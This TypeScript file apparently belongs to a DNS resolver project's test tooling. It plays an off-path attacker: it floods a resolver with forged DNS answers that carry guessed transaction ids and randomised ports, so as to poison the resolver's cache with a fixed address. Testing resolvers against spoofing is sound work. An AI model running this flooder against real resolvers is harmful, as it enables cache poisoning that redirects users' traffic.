/**
 * A resolver's address in the hands of somebody who guesses: for each question it forges answers
 * from the right address and port, half to the port that asked and half to others, with guessed ids
 * and the name in lower case. Says how many it sent after each question.
 */
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { decodeMessage, encodeMessage } from '../../src/wire/dns.ts';
import { lowerName } from '../../src/wire/dns-name.ts';

const [host = '127.0.0.1', count = '1000'] = process.argv.slice(2);
const socket = createSocket('udp4');
let sent = 0;
/** One after the other: they would all be sent after the question was given up. */
const waiting: (() => void)[] = [];
let busy = false;

socket.on('message', (bytes, from) => {
  const query = decodeMessage(bytes);
  const [question] = query.ok ? query.value.questions : [];
  if (!query.ok || question === undefined) return;
  const name = lowerName(question.name);
  const forged = encodeMessage({
    ...query.value,
    ...{ id: 0, response: true, recursionAvailable: true, edns: undefined },
    questions: [{ ...question, name }],
    answers: [{ name, type: 1, class: 1, ttl: 600, rdata: Uint8Array.of(192, 0, 2, 66) }],
  });
  waiting.push(() => forge(forged, from.address, from.port, Number(count)));
  next();
});

function next(): void {
  if (busy) return;
  const job = waiting.shift();
  if (job === undefined) return;
  busy = true;
  job();
}

function forge(forged: Uint8Array, victim: string, port: number, left: number): void {
  const guesses = randomBytes(4 * 1024);
  for (let i = 0; i < 1024; i++) {
    const packet = Buffer.from(forged);
    guesses.copy(packet, 0, 4 * i, 4 * i + 2);
    const other = 1024 + (guesses.readUInt16BE(4 * i + 2) % 64_000);
    socket.send(packet, i % 2 === 0 ? port : other, victim, () => {});
  }
  sent += 1024;
  if (left > 1024) {
    setImmediate(() => forge(forged, victim, port, left - 1024));
    return;
  }
  process.stdout.write(`${sent}\n`);
  busy = false;
  next();
}

socket.bind(53, host, () => process.stdout.write('0\n'));
